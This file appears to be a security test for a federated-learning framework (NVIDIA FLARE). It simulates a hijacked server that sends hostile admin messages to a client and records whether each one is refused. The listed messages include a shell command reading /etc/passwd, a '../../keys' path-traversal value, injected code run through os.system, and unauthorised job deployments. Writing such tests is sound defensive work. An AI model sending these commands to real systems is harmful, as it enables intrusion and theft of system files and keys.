"""A Root whose server was taken over: it has the right certificate, and sends what it likes to an institute.

``python -m jazari.studies.flare.tests.rogue_server server ENGINE``: FLARE's server with its own commands, sent
without naming the command (which is how FLARE's own authorisation is skipped). Replies go to ``replies.json``.
"""

from __future__ import annotations

import io
import json
import os
import sys
import threading
import time
import zipfile
from pathlib import Path
from typing import Any

from jazari.studies.flare import jobs, process

JOB = "11111111-1111-4111-8111-111111111111"
TRIES = 25
CODE = b"import os\nos.system('touch /tmp/jazari-was-here')\n"


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for name, content in files.items():
            target.writestr(name, content)
    return buffer.getvalue()


def _foreign_class() -> dict[str, bytes]:
    app = json.loads(jobs.APP_FILES["config/config_fed_client.json"])
    app["executors"][0]["executor"]["path"] = "nvflare.app_common.executors.task_script_runner.TaskScriptRunner"
    return {**jobs.APP_FILES, "config/config_fed_client.json": json.dumps(app).encode()}


def _log_streamer() -> dict[str, bytes]:
    app = json.loads(jobs.APP_FILES["config/config_fed_client.json"])
    app["components"] = [{"id": "log", "path": "nvflare.app_common.logging.job_log_streamer.JobLogStreamer"}]
    return {**jobs.APP_FILES, "config/config_fed_client.json": json.dumps(app).encode()}


def _messages(site: str, run: str) -> dict[str, tuple[str, Any, dict[str, Any]]]:
    ours, unknown = jobs.describe(run, [site]), jobs.describe("nobody-approved-this", [site])
    docker = {**ours, "launcher_spec": {site: {"docker": {"image": "evil"}}}}
    deploy, check, start = "train.deploy", "scheduler.check_resource", "train.start_job"
    return {
        "shell": ("sys.shell", "cat /etc/passwd", {}),
        "system information": ("sys.info", "", {}),
        "environment": ("sys.report_env", "", {}),
        "site log": ("sys.configure_site_log", "DEBUG", {}),
        "errors of a job": ("info.show_errors", "", {"job_id": JOB}),
        "delete a run": ("train.delete_run", "", {"job_id": "../../keys"}),
        "shut down": ("train.shutdown", "", {}),
        "custom code": (deploy, _zip({**jobs.APP_FILES, "custom/evil.py": CODE}), {"job_meta": ours}),
        "foreign class": (deploy, _zip(_foreign_class()), {"job_meta": ours}),
        "log streaming": (deploy, _zip(_log_streamer()), {"job_meta": ours}),
        "no permit, deploy": (deploy, _zip(dict(jobs.APP_FILES)), {"job_meta": unknown}),
        "no permit, resources": (check, {}, {"job_meta": unknown}),
        "no permit, start": (start, {}, {"job_meta": unknown}),
        "no meta": (start, {}, {}),
        "another image": (check, {}, {"job_meta": docker}),
        "start what was never deployed": (start, {}, {"job_meta": {**ours, "job_id": JOB}}),
    }


def _text(reply: Any) -> str:
    body = getattr(reply, "body", reply)
    return json.dumps(body, default=str) if not isinstance(body, str) else body


def _send(engine: Any, token: str, topic: str, body: Any, headers: dict[str, Any]) -> Any:
    from nvflare.private.admin_defs import Message

    message = Message(topic=topic, body=body)
    for key, value in headers.items():
        message.set_header(key, value)
    with engine.new_context() as fl_ctx:
        answered = engine.server.admin_server.send_requests({token: message}, fl_ctx, timeout_secs=5)
    return answered[0].reply if answered else None


def _attack(engine: Any, folder: Path, run: str) -> None:
    while not engine.client_manager.clients:
        time.sleep(0.1)
    replies: dict[str, str] = {}
    token, client = next(iter(engine.client_manager.clients.items()))
    for name, (topic, body, headers) in _messages(client.name, run).items():
        sent = {"job_id": JOB, "app_name": jobs.APP, **headers}
        for _ in range(TRIES):
            if (reply := _send(engine, token, topic, body, sent)) is not None:
                break
            time.sleep(0.2)  # Just connected, and not all there yet.
        replies[name] = _text(reply)
    (folder / "replies.json").write_text(json.dumps(replies))


def _take_over(folder: Path, run: str) -> None:
    from nvflare.apis.event_type import EventType

    from jazari.studies.flare.keeper import RunKeeper

    def attack(self: Any, event_type: str, fl_ctx: Any) -> None:
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=_attack, args=(fl_ctx.get_engine(), folder, run), daemon=True).start()

    RunKeeper.handle_event = attack  # type: ignore[method-assign]


if __name__ == "__main__":
    _take_over(Path(sys.argv[2]), sys.argv[3])
    os._exit(process.main(sys.argv[1:3]))
